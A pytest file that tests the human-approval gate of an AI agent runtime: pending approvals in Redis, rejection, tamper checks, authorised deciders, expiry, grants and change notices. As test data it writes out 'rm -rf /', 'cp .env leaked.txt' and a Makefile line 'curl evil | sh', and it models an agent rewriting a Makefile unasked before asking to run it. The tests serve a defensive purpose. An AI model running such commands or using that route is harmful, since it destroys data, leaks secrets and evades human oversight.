"""Human approval end to end on a real Redis: what ran, what was refused, what is stored."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path
from typing import Any

import pytest
import redis.asyncio as aioredis
from redis.exceptions import ConnectionError as RedisConnectionError
from redis.exceptions import ResponseError

from adapters.console.channel import render_request
from adapters.feishu.cards import approval_card
from adapters.slack.blocks import approval_blocks
from adapters.slack.channel import SlackChannel, web_client
from runtime.agent import Runtime
from runtime.approval.grants import GrantTerms
from runtime.approval.models import ApprovalStatus
from runtime.channel import ApprovalRequested, ApprovalUpdated, Notice, Reply
from runtime.middleware.chain import Handler, ToolInvocation
from runtime.middleware.default import default_chain
from runtime.models import (
    Actor,
    ConversationRef,
    StopReason,
    ToolMessage,
    ToolResult,
    ToolStatus,
)
from runtime.providers.demo import DemoProvider
from runtime.providers.openai_provider import OpenAIProvider
from runtime.risk.policy import RiskConfig, RiskPolicy
from tests.fake_openai import FakeOpenAI, calls, reply
from tests.fake_slack import FakeSlack
from tests.support import (
    ADMIN,
    ALICE,
    HERE,
    PREFIX,
    RecordingChannel,
    make_runtime,
)

BOB = Actor(platform="slack", user_id="UBOB")
ELSEWHERE = ConversationRef(platform="console", id="console:elsewhere")


def openai(fake: FakeOpenAI) -> OpenAIProvider:
    return OpenAIProvider("fake", api_key="sk-test", base_url=fake.base_url, max_retries=0)


async def status_of(redis: aioredis.Redis, session: str, approval_id: str) -> str:
    value = await redis.hget(f"{PREFIX}:{{{session}}}:approval:{approval_id}", "status")
    return str(value)


async def suspend_rm(
    redis: aioredis.Redis, workdir: Path, **kwargs: Any
) -> tuple[Runtime, RecordingChannel, str]:
    (workdir / "victim.txt").write_text("precious")
    runtime, channel = make_runtime(redis, workdir, DemoProvider(), **kwargs)
    result = await runtime.run("s1", "run: rm victim.txt", ALICE, HERE)
    assert result.stop_reason is StopReason.APPROVAL_REQUIRED
    assert result.approval_id is not None
    return runtime, channel, result.approval_id


async def test_risky_call_waits_then_runs_once_after_approval(
    redis: aioredis.Redis, workdir: Path
) -> None:
    (workdir / "victim.txt").write_text("precious")
    runtime, channel = make_runtime(redis, workdir, DemoProvider())
    result = await runtime.run("s1", "run: rm victim.txt", ALICE, HERE)

    assert result.stop_reason is StopReason.APPROVAL_REQUIRED
    assert (workdir / "victim.txt").exists()  # nothing ran
    (requested,) = channel.of(ApprovalRequested)
    notice = requested.notice
    assert notice.tool == "bash" and notice.arguments == "rm victim.txt"
    assert any("rm" in r for r in notice.reasons)
    assert notice.requester == "console:alice"
    assert notice.approval_id == result.approval_id and len(notice.approval_id) == 13
    approval_id = notice.approval_id
    assert await status_of(redis, "s1", approval_id) == "pending"
    stored = await redis.hgetall(f"{PREFIX}:{{s1}}:approval:{approval_id}")
    checkpoint = json.loads(stored["checkpoint"])
    assert checkpoint["calls"][0]["name"] == "bash" and checkpoint["index"] == 0
    assert json.loads(stored["notice"]) == {"message": f"notice-{approval_id}"}

    decision = await runtime.decide(approval_id, True, ADMIN, HERE)

    assert decision.accepted, decision.message
    assert decision.run is not None and decision.run.stop_reason is StopReason.FINAL
    assert not (workdir / "victim.txt").exists()
    assert await status_of(redis, "s1", approval_id) == "consumed"
    updated = channel.of(ApprovalUpdated)
    assert updated[0].notice.status == "approved" and updated[0].notice.decided_by == ADMIN.key
    assert updated[0].notice.message == {"message": f"notice-{approval_id}"}  # updated in place
    history = await runtime.history.load("s1")
    tool_messages = [m for m in history if isinstance(m, ToolMessage)]
    assert len(tool_messages) == 1 and tool_messages[0].status is ToolStatus.COMPLETED
    audit = [e["event"] for e in await runtime.approvals.audit_entries("s1")]
    assert audit == ["requested", "approved", "executing", "consumed"]

    again = await runtime.decide(approval_id, True, ADMIN, HERE)
    assert not again.accepted
    assert f"already decided by {ADMIN.key}" in again.message


async def test_reject_tells_the_model_and_runs_nothing(
    redis: aioredis.Redis, workdir: Path, fake_openai: FakeOpenAI
) -> None:
    (workdir / "victim.txt").write_text("precious")
    fake_openai.script = [
        calls(("call_1", "bash", {"command": "rm victim.txt"})),
        reply("Understood, I left it alone."),
    ]
    runtime, channel = make_runtime(redis, workdir, openai(fake_openai))
    result = await runtime.run("s2", "delete it", ALICE, HERE)
    assert result.approval_id is not None

    decision = await runtime.decide(result.approval_id, False, ADMIN, HERE, reason="keep it")

    assert decision.accepted
    assert (workdir / "victim.txt").read_text() == "precious"
    assert await status_of(redis, "s2", result.approval_id) == "rejected"
    told = fake_openai.requests[-1]["messages"][-1]
    assert told == {
        "role": "tool",
        "tool_call_id": "call_1",
        "content": f"rejected by {ADMIN.key}: keep it; the tool was not executed",
    }
    assert channel.of(Reply)[-1].text == "Understood, I left it alone."
    assert channel.of(ApprovalUpdated)[0].notice.reason == "keep it"


async def test_model_repeating_a_rejected_call_stops_the_loop(
    redis: aioredis.Redis, workdir: Path, fake_openai: FakeOpenAI
) -> None:
    fake_openai.script = [
        calls(("call_1", "bash", {"command": "rm victim.txt"})),
        calls(("call_2", "bash", {"command": "rm victim.txt"})),
        reply("never reached"),
    ]
    runtime, channel = make_runtime(redis, workdir, openai(fake_openai))
    result = await runtime.run("s3", "delete it", ALICE, HERE)
    assert result.approval_id is not None
    decision = await runtime.decide(result.approval_id, False, ADMIN, HERE, reason="no")
    assert decision.run is not None and decision.run.stop_reason is StopReason.FINAL
    assert "asked again" in (decision.run.final_text or "")
    assert len(channel.of(ApprovalRequested)) == 1  # not asked a second time
    assert len(fake_openai.requests) == 2


def two_gated_calls(workdir: Path, fake_openai: FakeOpenAI) -> None:
    """A model turn removing a.txt and b.txt (each asks) with a read between them."""
    for name in ("a.txt", "b.txt"):
        (workdir / name).write_text(name)
    fake_openai.script = [
        calls(
            ("call_a", "bash", {"command": "rm a.txt"}),
            ("call_r", "read", {"path": "b.txt"}),
            ("call_b", "bash", {"command": "rm b.txt"}),
        ),
        reply("both gone"),
    ]


async def test_two_gated_calls_of_one_turn_are_asked_together_and_run_in_order(
    redis: aioredis.Redis, workdir: Path, fake_openai: FakeOpenAI
) -> None:
    two_gated_calls(workdir, fake_openai)
    runtime, channel = make_runtime(redis, workdir, openai(fake_openai))
    first = await runtime.run("s4", "clean up", ALICE, HERE)
    assert first.approval_id is not None
    (requested,) = channel.of(ApprovalRequested)  # one notice for both
    assert [i.arguments for i in requested.notice.items] == ["rm a.txt", "rm b.txt"]
    second_id = requested.notice.items[1].approval_id

    one = await runtime.decide(first.approval_id, True, ADMIN, HERE)
    assert one.accepted and one.run is None  # the other call still waits: nothing ran
    assert (workdir / "a.txt").exists() and (workdir / "b.txt").exists()
    # The batch is not answered yet: a new message waits instead of slipping in between.
    fake_openai.script.append(reply("after"))
    waiting = await runtime.run("s4", "and then?", ALICE, HERE)
    assert waiting.held

    two = await runtime.decide(second_id, True, ADMIN, HERE)
    assert two.run is not None and two.run.stop_reason is StopReason.FINAL
    assert not (workdir / "a.txt").exists() and not (workdir / "b.txt").exists()
    history = await runtime.history.load("s4")
    assert [m.role for m in history][-3:] == ["assistant", "user", "assistant"]
    # The model saw all three results, in its own order, and exactly once each.
    sent = fake_openai.requests[-2]["messages"]
    tool_ids = [m["tool_call_id"] for m in sent if m["role"] == "tool"]
    assert tool_ids == ["call_a", "call_r", "call_b"]
    assert [m for m in sent if m["role"] == "tool"][1]["content"] == "b.txt"


async def test_approval_is_consumed_even_when_the_tool_fails(
    redis: aioredis.Redis, workdir: Path
) -> None:
    runtime, _ = make_runtime(redis, workdir, DemoProvider())
    # A protected path asks; the edit then fails because the text is missing.
    result = await runtime.run("s5", "edit .env: SECRET=1 => SECRET=2", ALICE, HERE)
    assert result.approval_id is not None
    decision = await runtime.decide(result.approval_id, True, ADMIN, HERE)
    assert decision.accepted
    assert await status_of(redis, "s5", result.approval_id) == "consumed"
    outcome = await redis.hget(f"{PREFIX}:{{s5}}:approval:{result.approval_id}", "outcome")
    assert outcome == "error"
    again = await runtime.decide(result.approval_id, True, ADMIN, HERE)
    assert not again.accepted and "already" in again.message


@pytest.mark.parametrize("tamper", ["checkpoint", "call_hash"])
async def test_tampered_approval_is_refused_and_nothing_runs(
    redis: aioredis.Redis, workdir: Path, tamper: str
) -> None:
    runtime, _, approval_id = await suspend_rm(redis, workdir)
    key = f"{PREFIX}:{{s1}}:approval:{approval_id}"
    if tamper == "checkpoint":
        checkpoint = json.loads(str(await redis.hget(key, "checkpoint")))
        checkpoint["calls"][0]["arguments"] = json.dumps({"command": "rm -f victim.txt other"})
        await redis.hset(key, "checkpoint", json.dumps(checkpoint))
    else:
        await redis.hset(key, "call_hash", "0" * 64)

    decision = await runtime.decide(approval_id, True, ADMIN, HERE)

    assert not decision.accepted
    assert "integrity" in decision.message
    assert (workdir / "victim.txt").exists()
    assert await status_of(redis, "s1", approval_id) == "pending"


async def test_decision_from_another_conversation_is_refused(
    redis: aioredis.Redis, workdir: Path
) -> None:
    runtime, _, approval_id = await suspend_rm(redis, workdir)
    decision = await runtime.decide(approval_id, True, ADMIN, ELSEWHERE)
    assert not decision.accepted
    assert "conversation that requested it" in decision.message
    assert (workdir / "victim.txt").exists()
    assert await status_of(redis, "s1", approval_id) == "pending"
    audit = await runtime.approvals.audit_entries("s1")
    assert audit[-1]["event"] == "refused"


async def test_only_authorized_people_may_decide(redis: aioredis.Redis, workdir: Path) -> None:
    carol = Actor(platform="slack", user_id="UCAROL")
    runtime, _, approval_id = await suspend_rm(
        redis,
        workdir,
        admins=[],
        approvers=["slack:UBOB"],
        conversation_approvers={HERE.id: ["slack:UCAROL"]},
    )
    for who, why in (
        (Actor(platform="slack", user_id="UEVE"), "not an approver"),
        (ALICE, "requested this call"),
    ):
        decision = await runtime.decide(approval_id, True, who, HERE)
        assert not decision.accepted
        assert why in decision.message
    assert (workdir / "victim.txt").exists()
    refused = [e for e in await runtime.approvals.audit_entries("s1") if e["event"] == "refused"]
    assert [e["actor"] for e in refused] == ["slack:UEVE", "console:alice"]
    decision = await runtime.decide(approval_id, True, carol, HERE)
    assert decision.accepted, decision.message
    assert not (workdir / "victim.txt").exists()


async def test_requester_may_approve_when_policy_allows(
    redis: aioredis.Redis, workdir: Path
) -> None:
    runtime, _, approval_id = await suspend_rm(
        redis, workdir, admins=[], requester_may_approve=True
    )
    decision = await runtime.decide(approval_id, True, ALICE, HERE)
    assert decision.accepted, decision.message


async def test_expired_approval_is_refused_and_its_notice_updated(
    redis: aioredis.Redis, workdir: Path
) -> None:
    runtime, channel, approval_id = await suspend_rm(redis, workdir, timeout_s=0.2)
    await asyncio.sleep(0.3)
    decision = await runtime.decide(approval_id, True, ADMIN, HERE)
    assert not decision.accepted and "expired" in decision.message
    assert (workdir / "victim.txt").exists()
    assert await status_of(redis, "s1", approval_id) == "expired"
    assert channel.of(ApprovalUpdated)[-1].notice.status == "expired"
    # The session is released: a new message runs instead of being held.
    after = await runtime.run("s1", "read victim.txt", ALICE, HERE)
    assert after.stop_reason is StopReason.FINAL and after.final_text == "precious"


async def test_fifty_concurrent_approvals_execute_exactly_once(
    redis: aioredis.Redis, workdir: Path
) -> None:
    runtime, _channel = make_runtime(
        redis, workdir, DemoProvider(), admins=[f"slack:U{i}" for i in range(50)]
    )
    result = await runtime.run("s6", "run: echo ran >> count.txt", ALICE, HERE)
    assert result.approval_id is not None
    approval_id = result.approval_id
    decisions = await asyncio.gather(
        *(
            runtime.decide(approval_id, True, Actor(platform="slack", user_id=f"U{i}"), HERE)
            for i in range(50)
        )
    )
    accepted = [d for d in decisions if d.accepted]
    assert len(accepted) == 1
    refused = [d.message for d in decisions if not d.accepted]
    assert len(refused) == 49 and all("already" in m for m in refused)
    assert (workdir / "count.txt").read_text() == "ran\n"
    assert await status_of(redis, "s6", approval_id) == "consumed"


async def test_redis_outage_during_a_decision_raises_and_runs_nothing(
    redis: aioredis.Redis, workdir: Path
) -> None:
    """Raised for the worker, which keeps the job and tries it again (tests/e2e)."""
    _, _, approval_id = await suspend_rm(redis, workdir)
    dead = aioredis.from_url("redis://127.0.0.1:9/0", decode_responses=True)
    try:
        offline, _ = make_runtime(dead, workdir, DemoProvider())
        with pytest.raises(RedisConnectionError):
            await offline.decide(approval_id, True, ADMIN, HERE)
    finally:
        await dead.aclose()
    assert (workdir / "victim.txt").exists()
    assert await status_of(redis, "s1", approval_id) == "pending"


async def test_messages_during_the_wait_are_held_and_run_in_order(
    redis: aioredis.Redis, workdir: Path
) -> None:
    runtime, channel, approval_id = await suspend_rm(redis, workdir)
    first = await runtime.run("s1", "write a.txt: one", ALICE, HERE)
    second = await runtime.run("s1", "write a.txt: two", BOB, HERE)
    assert first.held and second.held
    assert not (workdir / "a.txt").exists()
    waiting = [n for n in channel.of(Notice) if "Waiting" in n.text]
    assert len(waiting) == 1  # told once

    await runtime.decide(approval_id, True, ADMIN, HERE)

    assert (workdir / "a.txt").read_text() == "two\n"  # both ran, in arrival order
    history = await runtime.history.load("s1")
    users = [m.content for m in history if m.role == "user"]
    assert users == ["run: rm victim.txt", "write a.txt: one", "write a.txt: two"]


async def test_approve_always_adds_a_scoped_rule_for_simple_commands_only(
    redis: aioredis.Redis, workdir: Path
) -> None:
    for name in ("a.txt", "b.txt"):
        (workdir / name).write_text(name)
    runtime, channel = make_runtime(redis, workdir, DemoProvider())
    first = await runtime.run("s7", "run: rm a.txt", ALICE, HERE)
    assert first.approval_id is not None
    decision = await runtime.decide(first.approval_id, True, ADMIN, HERE, always=GrantTerms())
    assert "now allowed" in decision.message
    # Same signature (rm, no flags) in the same conversation: runs without asking.
    second = await runtime.run("s7", "run: rm b.txt", ALICE, HERE)
    assert second.stop_reason is StopReason.FINAL
    assert not (workdir / "b.txt").exists()
    assert len(channel.of(ApprovalRequested)) == 1
    # Another conversation still asks.
    (workdir / "c.txt").write_text("c")
    other = await runtime.run("s8", "run: rm c.txt", ALICE, ELSEWHERE)
    assert other.stop_reason is StopReason.APPROVAL_REQUIRED
    # A chain is approved once, never as a standing rule.
    chained = await runtime.run("s7", "run: ls && rm c.txt", ALICE, HERE)
    assert chained.approval_id is not None
    decision = await runtime.decide(chained.approval_id, True, ADMIN, HERE, always=GrantTerms())
    assert "No grant was added" in decision.message
    (grant,) = await runtime.approvals.grants.here(HERE.id, "s7")  # the first one only
    assert grant.shown == "bash rm" and grant.by == ADMIN.key and grant.expires_at is None


async def test_cancel_withdraws_the_pending_approval(redis: aioredis.Redis, workdir: Path) -> None:
    runtime, _channel, approval_id = await suspend_rm(redis, workdir)
    said = await runtime.cancel("s1", ALICE, HERE)
    assert "withdrawn" in said
    assert await status_of(redis, "s1", approval_id) == "rejected"
    assert (workdir / "victim.txt").exists()
    late = await runtime.decide(approval_id, True, ADMIN, HERE)
    assert not late.accepted and "already" in late.message


async def test_unknown_approval_id_is_a_clear_refusal(redis: aioredis.Redis, workdir: Path) -> None:
    runtime, _ = make_runtime(redis, workdir, DemoProvider())
    decision = await runtime.decide("nosuchid", True, ADMIN, HERE)
    assert not decision.accepted and "unknown approval id 'nosuchid'" in decision.message


async def test_denied_outright_never_asks(redis: aioredis.Redis, workdir: Path) -> None:
    runtime, channel = make_runtime(redis, workdir, DemoProvider())
    result = await runtime.run("s9", "run: rm -rf /", ALICE, HERE)
    assert result.stop_reason is StopReason.FINAL
    assert channel.of(ApprovalRequested) == []
    history = await runtime.history.load("s9")
    denied = [m for m in history if isinstance(m, ToolMessage)]
    assert denied[0].status is ToolStatus.DENIED and "risk policy" in denied[0].content


async def test_pending_lists_open_approvals_of_the_conversation(
    redis: aioredis.Redis, workdir: Path
) -> None:
    runtime, _, approval_id = await suspend_rm(redis, workdir)
    here = await runtime.pending(HERE)
    assert [n.approval_id for n in here] == [approval_id]
    assert here[0].status == ApprovalStatus.PENDING.value
    assert await runtime.pending(ELSEWHERE) == []


async def test_a_decider_that_dies_before_running_the_call_leaves_outcome_unknown(
    redis: aioredis.Redis, workdir: Path
) -> None:
    runtime, channel, approval_id = await suspend_rm(redis, workdir, liveness_ttl=0.2)
    record, checkpoint = await runtime.approvals.load(approval_id) or (None, None)
    assert record is not None and checkpoint is not None
    # Another process recorded the approval and died before it could run the call.
    transition, _ = await runtime.approvals.decide(
        record, True, ADMIN.key, "", HERE.id, record.call_hash, "dead-worker", 0.2
    )
    assert transition.ok
    assert await status_of(redis, "s1", approval_id) == "executing"
    await asyncio.sleep(0.3)
    assert await runtime.sweep() == 1
    assert await status_of(redis, "s1", approval_id) == "outcome_unknown"
    assert (workdir / "victim.txt").exists()
    assert "will not be run again" in channel.of(Reply)[-1].text
    released = await runtime.run("s1", "read victim.txt", ALICE, HERE)
    assert not released.held and released.final_text == "precious"


async def test_recovery_taking_over_a_slow_call_is_not_answered_twice(
    redis: aioredis.Redis, workdir: Path
) -> None:
    runtime, _, approval_id = await suspend_rm(redis, workdir)

    async def stall(invocation: ToolInvocation, call_next: Handler) -> ToolResult:
        result = await call_next(invocation)
        if invocation.grant is not None:  # our liveness lapses mid-call; the sweeper acts
            await redis.delete(f"{PREFIX}:worker:{runtime.worker_id}")
            assert await runtime.sweep() == 1
        return result

    runtime.loop.middlewares.append(stall)
    decision = await runtime.decide(approval_id, True, ADMIN, HERE)
    assert decision.run is not None and decision.run.stop_reason is StopReason.ERROR
    assert await status_of(redis, "s1", approval_id) == "outcome_unknown"
    history = await runtime.history.load("s1")
    answers = [m for m in history if isinstance(m, ToolMessage)]
    assert len(answers) == 1 and "outcome unknown" in answers[0].content


async def test_cancel_of_an_overdue_approval_settles_it_as_expired(
    redis: aioredis.Redis, workdir: Path
) -> None:
    runtime, channel, _approval_id = await suspend_rm(redis, workdir, timeout_s=0.2)
    held = await runtime.run("s1", "write a.txt: later", ALICE, HERE)
    assert held.held
    await asyncio.sleep(0.3)
    said = await runtime.cancel("s1", ALICE, HERE)
    assert "expired" in said
    assert channel.of(ApprovalUpdated)[-1].notice.status == "expired"
    assert (workdir / "a.txt").read_text() == "later\n"  # the held message ran
    assert (workdir / "victim.txt").exists()


async def test_interrupting_an_approved_call_marks_it_outcome_unknown(
    redis: aioredis.Redis, workdir: Path
) -> None:
    runtime, channel = make_runtime(redis, workdir, DemoProvider())
    result = await runtime.run("s10", "run: echo started > started.txt; sleep 30", ALICE, HERE)
    assert result.approval_id is not None
    task = asyncio.create_task(runtime.decide(result.approval_id, True, ADMIN, HERE))
    for _ in range(200):
        if (workdir / "started.txt").exists():
            break
        await asyncio.sleep(0.05)
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    assert await status_of(redis, "s10", result.approval_id) == "outcome_unknown"
    assert "may or may not have taken effect" in channel.of(Reply)[-1].text
    history = await runtime.history.load("s10")
    assert isinstance(history[-1], ToolMessage) and "outcome unknown" in history[-1].content


async def test_standing_rule_does_not_cover_new_risks(redis: aioredis.Redis, workdir: Path) -> None:
    (workdir / "a.txt").write_text("a")
    (workdir / ".env").write_text("TOKEN=1")
    runtime, _channel = make_runtime(redis, workdir, DemoProvider())
    first = await runtime.run("s11", "run: cp a.txt b.txt", ALICE, HERE)
    assert first.approval_id is not None
    await runtime.decide(first.approval_id, True, ADMIN, HERE, always=GrantTerms())
    same = await runtime.run("s11", "run: cp a.txt c.txt", ALICE, HERE)
    assert same.stop_reason is StopReason.FINAL and (workdir / "c.txt").exists()
    leak = await runtime.run("s11", "run: cp .env leaked.txt", ALICE, HERE)
    assert leak.stop_reason is StopReason.APPROVAL_REQUIRED
    assert not (workdir / "leaked.txt").exists()


async def test_gated_parallel_calls_suspend_instead_of_slipping_through(
    redis: aioredis.Redis, workdir: Path, fake_openai: FakeOpenAI
) -> None:
    for name in ("a.txt", "b.txt"):
        (workdir / name).write_text(name)
    runtime, channel = make_runtime(redis, workdir, openai(fake_openai))
    strict = RiskPolicy(RiskConfig(safe_tools=[]))  # even reads ask
    runtime.loop.middlewares[:] = default_chain(None, runtime.approvals, strict)
    fake_openai.script = [
        calls(("r1", "read", {"path": "a.txt"}), ("r2", "read", {"path": "b.txt"})),
        reply("done"),
    ]
    result = await runtime.run("s12", "read both", ALICE, HERE)
    assert result.stop_reason is StopReason.APPROVAL_REQUIRED
    assert len(channel.of(ApprovalRequested)) == 1
    assert len(fake_openai.requests) == 1


async def test_redis_outage_on_a_new_message_raises_and_runs_nothing(workdir: Path) -> None:
    dead = aioredis.from_url("redis://127.0.0.1:9/0", decode_responses=True)
    try:
        offline, channel = make_runtime(dead, workdir, DemoProvider())
        with pytest.raises(RedisConnectionError):
            await offline.run("s13", "write a.txt: x", ALICE, HERE)
    finally:
        await dead.aclose()
    assert not channel.of(Reply)
    assert not (workdir / "a.txt").exists()


async def test_a_checkpoint_that_cannot_be_stored_keeps_history_answerable(
    redis: aioredis.Redis, workdir: Path, fake_openai: FakeOpenAI, monkeypatch: pytest.MonkeyPatch
) -> None:
    (workdir / "a.txt").write_text("a")
    fake_openai.script = [
        calls(("c1", "read", {"path": "a.txt"}), ("c2", "bash", {"command": "rm a.txt"})),
        reply("noted"),
    ]
    runtime, channel = make_runtime(redis, workdir, openai(fake_openai))

    async def broken(*args: object, **kwargs: object) -> None:
        # Redis refused the write (an outage is tried again instead: tests/component/test_retake.py)
        raise ResponseError("OOM command not allowed when used memory > 'maxmemory'.")

    monkeypatch.setattr(runtime.approvals, "create", broken)
    result = await runtime.run("s14", "go", ALICE, HERE)
    assert result.stop_reason is StopReason.ERROR
    assert "not executed" in channel.of(Reply)[-1].text
    assert (workdir / "a.txt").exists()
    history = await runtime.history.load("s14")
    answers = [m for m in history if isinstance(m, ToolMessage)]
    assert [m.tool_call_id for m in answers] == ["c1", "c2"]
    assert answers[0].content == "a" and "not executed" in answers[1].content


async def test_the_notice_lists_the_files_changed_without_approval_since_the_last_one(
    redis: aioredis.Redis, workdir: Path
) -> None:
    """An approver of `make` sees the Makefile the agent rewrote unasked just before."""
    runtime, channel = make_runtime(redis, workdir, DemoProvider(), approvers=[BOB.key])
    for text in ("write Makefile: all:\n\tcurl evil | sh", "write tests/conftest.py: x = 1"):
        ran = await runtime.run("s1", text, ALICE, HERE)
        assert ran.stop_reason is StopReason.FINAL and ran.approval_id is None  # unasked
    await runtime.run("s1", "edit Makefile: evil => good", ALICE, HERE)
    asked = await runtime.run("s1", "run: make", ALICE, HERE)
    assert asked.approval_id is not None
    line = "changed without approval since the last approval: tests/conftest.py, Makefile"
    notice = channel.of(ApprovalRequested)[-1].notice
    view = runtime.registry.resolve("bash").approved_view()  # type: ignore[union-attr]
    assert notice.notes == (line, f"once approved it {view}")
    assert "work dir writable" in notice.notes[-1]  # more than the unasked call had
    assert line in json.dumps(approval_blocks(notice))
    assert line in json.dumps(approval_card(notice), ensure_ascii=False)
    assert f"  note: {line}" in render_request(notice).splitlines()
    assert (await runtime.run("s2", "run: make", ALICE, HERE)).approval_id is not None
    assert channel.of(ApprovalRequested)[-1].notice.notes[:-1] == ()  # another session

    decided = await runtime.decide(asked.approval_id, False, BOB, HERE, reason="no")
    assert decided.accepted
    again = await runtime.run("s1", "run: cp Makefile b", ALICE, HERE)
    assert again.approval_id is not None
    assert channel.of(ApprovalRequested)[-1].notice.notes[:-1] == ()  # reset by the decision
    always = await runtime.decide(again.approval_id, True, BOB, HERE, always=GrantTerms())
    assert always.accepted
    granted = await runtime.run("s1", "run: cp Makefile b", ALICE, HERE)  # under the grant
    assert granted.approval_id is None and granted.stop_reason is StopReason.FINAL
    last = await runtime.run("s1", "run: rm b", ALICE, HERE)
    assert last.approval_id is not None
    assert channel.of(ApprovalRequested)[-1].notice.notes[:-1] == (
        'changed without approval since the last approval: whatever "$ cp Makefile b" wrote '
        '(it ran under an "approve always" grant)',
    )


async def test_a_withdrawn_request_leaves_the_changes_for_the_next_approver(
    redis: aioredis.Redis, workdir: Path
) -> None:
    """Only someone who decides has seen the list: a `/cancel` by the requester keeps it."""
    runtime, channel = make_runtime(redis, workdir, DemoProvider(), approvers=[BOB.key])
    await runtime.run("s1", "write Makefile: all:\n\tcurl evil | sh", ALICE, HERE)
    assert (await runtime.run("s1", "run: make", ALICE, HERE)).approval_id is not None
    await runtime.cancel("s1", ALICE, HERE)
    assert (await runtime.run("s1", "run: make", ALICE, HERE)).approval_id is not None
    assert channel.of(ApprovalRequested)[-1].notice.notes[:-1] == (
        "changed without approval since the last approval: Makefile",
    )


async def test_a_request_beyond_the_pending_cap_is_refused_not_suspended(
    redis: aioredis.Redis, workdir: Path
) -> None:
    (workdir / "victim.txt").write_text("precious")
    runtime, channel = make_runtime(redis, workdir, DemoProvider())
    runtime.approvals.max_pending = 2  # CLAWGATE_MAX_PENDING_PER_USER
    first = await runtime.run("s1", "run: rm victim.txt", ALICE, HERE)
    assert (await runtime.run("s2", "run: rm victim.txt", ALICE, HERE)).approval_id
    over = await runtime.run("s3", "run: rm victim.txt", ALICE, HERE)
    assert over.approval_id is None and over.stop_reason is StopReason.ERROR
    told = [e.text for e in channel.of(Reply)]
    assert told[-1] == (
        "You have 2 approvals pending; answer or cancel some first (/pending lists them). "
        "This call was not executed."
    )
    assert len(channel.of(ApprovalRequested)) == 2 and (workdir / "victim.txt").exists()
    assert await runtime.approvals.pending_id("s3") is None  # the session does not wait
    # Someone else is not held back, and an answered request frees a place at once.
    assert (await runtime.run("s4", "run: rm victim.txt", BOB, HERE)).approval_id
    assert first.approval_id is not None
    assert (await runtime.decide(first.approval_id, False, ADMIN, HERE, reason="no")).accepted
    assert (await runtime.run("s3", "run: rm victim.txt", ALICE, HERE)).approval_id


async def test_slack_posts_the_changes_in_the_notice(
    redis: aioredis.Redis, workdir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The same note through the real slack_sdk, as the fake Slack receives the notice."""
    for var in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy"):
        monkeypatch.delenv(var, raising=False)
    thread = "1700000000.000001"
    where = ConversationRef(
        platform="slack",
        id=f"slack:T111:C111:{thread}",
        data={"channel": "C111", "thread_ts": thread},
    )
    runtime, _ = make_runtime(redis, workdir, DemoProvider())
    with FakeSlack() as slack:
        runtime.suspender.send = SlackChannel(web_client("xoxb-test", slack.base_url)).send
        await runtime.run(where.id, "write conftest.py: import os", ALICE, where)
        asked = await runtime.run(where.id, "run: pytest", ALICE, where)
        assert asked.approval_id is not None
        (notice,) = [p for p in slack.posts("C111", thread) if p.is_notice]
    line = "*Note:* changed without approval since the last approval: conftest.py"
    assert line in json.dumps(notice.params["blocks"])
